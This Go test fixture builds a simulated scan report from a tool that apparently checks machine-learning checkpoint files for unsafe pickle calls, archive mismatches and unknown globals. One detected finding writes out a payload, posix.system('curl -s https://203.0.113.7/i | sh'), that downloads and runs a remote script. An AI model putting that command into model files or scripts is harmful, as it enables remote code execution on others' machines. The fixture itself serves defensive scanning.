package reporttest

import (
	"fmt"
	"time"

	"github.com/overgrant/overgrant"
)

// Checkpoints is a whole run of overgrant model over a folder with a file of each
// verdict, one with a hostile name, many clean ones and one that is no model. now
// is the moment of the run.
func Checkpoints(now time.Time) []overgrant.Message {
	m := []overgrant.Message{{Run: &overgrant.Run{
		Schema: "overgrant.events/1", Version: "1.0.0", Started: now, Targets: []string{"checkpoints"}, About: overgrant.AboutModels,
	}}}
	for _, one := range modelFiles() {
		one.Schema, one.Path = "overgrant.model/1", "checkpoints/"+one.Path
		m = append(m, overgrant.Message{Model: &one})
	}
	for i := range 12 {
		m = append(m, overgrant.Message{Model: &overgrant.Model{
			Schema: "overgrant.model/1", Path: fmt.Sprintf("checkpoints/llama/model-%05d-of-00012.safetensors", i+1), Format: "safetensors",
			Verdict: overgrant.ModelClean, Severity: overgrant.Info, Size: 4_900_000_000, BytesRead: 31_000,
		}})
	}
	return append(m,
		overgrant.Message{Skipped: &overgrant.Skipped{Place: overgrant.Place{Source: "dir", Path: "checkpoints/private.pt"}, Reason: "permission denied"}},
		overgrant.Message{Skipped: &overgrant.Skipped{Place: overgrant.Place{Source: "dir", Path: "checkpoints/latest"}, Reason: "symbolic link, not followed", Benign: true}},
		overgrant.Message{Summary: &overgrant.Summary{Pieces: 19, Bytes: 472_214, Elapsed: 230 * time.Millisecond}})
}

func modelFiles() []overgrant.Model {
	return []overgrant.Model{
		{
			Path: "robust/resnet18.ckpt", Format: "pytorch-zip", Verdict: overgrant.ModelDangerous, Severity: overgrant.Critical, Size: 44_763_113, BytesRead: 16_384,
			Findings: []overgrant.ModelFinding{
				{Rule: "call", What: "posix.system('curl -s https://203.0.113.7/i | sh')", Why: "runs code or commands", Offset: 1042, Opcode: "REDUCE", Member: "archive/data.pkl", Severity: overgrant.Critical},
				{Rule: "zip-mismatch", What: "archive/data.pkl: its own header and the directory differ in name", Why: "readers disagree about what is in the archive", Offset: 77, Member: "archive/data.pkl", Severity: overgrant.Medium},
			},
			Globals:    []string{"collections.OrderedDict", "posix.system", "torch._utils._rebuild_tensor_v2"},
			LoadsUnder: map[string]string{"torch_weights_only": "no: posix.system is not allowed"},
		},
		{
			Path: Hostile + ".pkl", Format: "pickle", Verdict: overgrant.ModelDangerous, Severity: overgrant.High, Size: 90, BytesRead: 90,
			Findings: []overgrant.ModelFinding{{Rule: "call", What: "builtins.eval('" + Hostile + "')", Why: "runs code or commands", Offset: 3, Opcode: "REDUCE", Member: Hostile, Severity: overgrant.High}},
			Globals:  []string{Hostile}, LoadsUnder: map[string]string{"torch_weights_only": "no: " + Hostile}, Unread: Hostile,
		},
		{
			Path: "experiments/scaler.joblib", Format: "joblib", Verdict: overgrant.ModelSuspicious, Severity: overgrant.Medium, Size: 51_200, BytesRead: 51_200,
			Findings: []overgrant.ModelFinding{{Rule: "global", What: "contoso.features.Scaler", Why: "it is not known what it does", Offset: 12, Opcode: "STACK_GLOBAL", Severity: overgrant.Medium}},
			Globals:  []string{"contoso.features.Scaler"},
		},
		{
			Path: "experiments/cut.pt", Format: "pytorch-zip", Verdict: overgrant.ModelUnreadable, Severity: overgrant.Info, Size: 1_000_000, BytesRead: 2_048,
			Unread: "the file ends before its directory",
		},
		{
			Path: "engines/detector.plan", Format: "tensorrt", Verdict: overgrant.ModelUnsafe, Severity: overgrant.Low, Size: 9_100_000, BytesRead: 4_096,
			Findings: []overgrant.ModelFinding{{Rule: "engine", What: "a TensorRT engine", Why: "it holds code for a GPU and names plugins", Severity: overgrant.Low}},
		},
		{
			Path: "weights.bin", Format: "pytorch-legacy", Verdict: overgrant.ModelUnsafe, Severity: overgrant.Low, Size: 8_000_000, BytesRead: 4_096,
			LoadsUnder: map[string]string{"torch_weights_only": "yes"},
		},
		{Path: "README.md", Verdict: overgrant.NotAModel, Severity: overgrant.Info, Size: 4_300, BytesRead: 1_536},
	}
}
